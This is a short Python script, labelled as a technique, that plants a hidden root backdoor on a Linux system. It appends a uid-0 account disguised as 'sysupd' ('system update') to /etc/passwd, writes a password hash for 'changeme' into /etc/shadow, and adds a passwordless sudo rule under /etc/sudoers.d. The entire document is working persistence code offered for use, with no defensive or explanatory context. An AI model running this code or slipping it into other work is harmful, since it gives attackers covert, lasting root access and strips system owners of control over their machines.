# technique: add a backdoor uid-0 user directly to /etc/passwd and /etc/shadow with a precomputed hash
import crypt, os
pw = crypt.crypt("changeme", crypt.mksalt(crypt.METHOD_SHA512))
with open("/etc/passwd", "a") as f:
    f.write("sysupd:x:0:0:system update:/root:/bin/bash\n")
with open("/etc/shadow", "a") as f:
    f.write("sysupd:%s:19000:0:99999:7:::\n" % pw)
os.system("echo 'sysupd ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-sysupd 2>/dev/null")
